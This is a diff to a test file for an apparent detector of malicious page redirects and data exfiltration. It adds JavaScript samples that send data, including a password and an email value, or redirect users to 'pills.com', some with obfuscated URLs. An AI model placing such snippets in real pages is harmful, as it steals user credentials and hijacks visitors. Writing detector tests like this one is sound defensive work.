@@ -27,6 +27,11 @@ SCRIPTS = {
     "a name": "var url = 'http://pills.com/x'; setTimeout(() => { window.location.href = url; }, 900)",
     "a name, and what it is told": 'const next="http://pills.com/x"\nlocation.replace(next + "#" + mail)',
     "a name that is posted to": "let api = 'http://pills.com/x'; $.post(api, {p: pw})",
+    "a name that is sent to": "const API_URL = 'http://pills.com/x'; fetch(API_URL, {method: 'POST', body: d})",
+    "a name that jQuery sends to": "let to = 1, api = 'http://pills.com/x'; $.ajax({type: 'POST', url: api, data: d})",
+    "an attribute": "document.forms[0].setAttribute('action', 'http://pills.com/x')",
+    "an attribute of jQuery's": '$(location).attr("href", "http://pills.com/x")',
+    "strings that are joined": """location = "ht" + "tp://pil"+"ls.com" + "/x" """,
     "members in brackets": "window['location']['href'] = 'http://pills.com/x'",
     "a call in brackets": 'top["location"]["replace"]("http://pills.com/x")',
     "letters by their codes": r"location = '\x68\x74tp:\u002f\u002fpills.com/x'",
@@ -62,6 +67,8 @@ def test_an_address_that_is_only_asked_is_left_aside(script: str) -> None:
         "var url = 'https://api.geo.com/json' + key; fetch(url); location.href = url_of(x);",
         "api.url = 'https://api.geo.com/json'; location.href = url;",
         "location.href = url",
+        "var api = 'https://api.geo.com/json'; fetch(api).then(f); $.ajax({url: api, success: f})",
+        "x.setAttribute('src', 'https://cdn.other.com/a.js')",
     ],
 )
 def test_a_name_that_may_mean_something_else_leads_nowhere(script: str) -> None:
@@ -110,6 +117,8 @@ def test_what_is_escaped_in_a_page_that_is_written_is_read_as_it_is_shown() -> N
         "insertAdjacentHTML('x',",
         "abc=",
         "location=abc;",
+        "'+",
+        "fetch(abc,",
         "\\x41",
     ],
 )
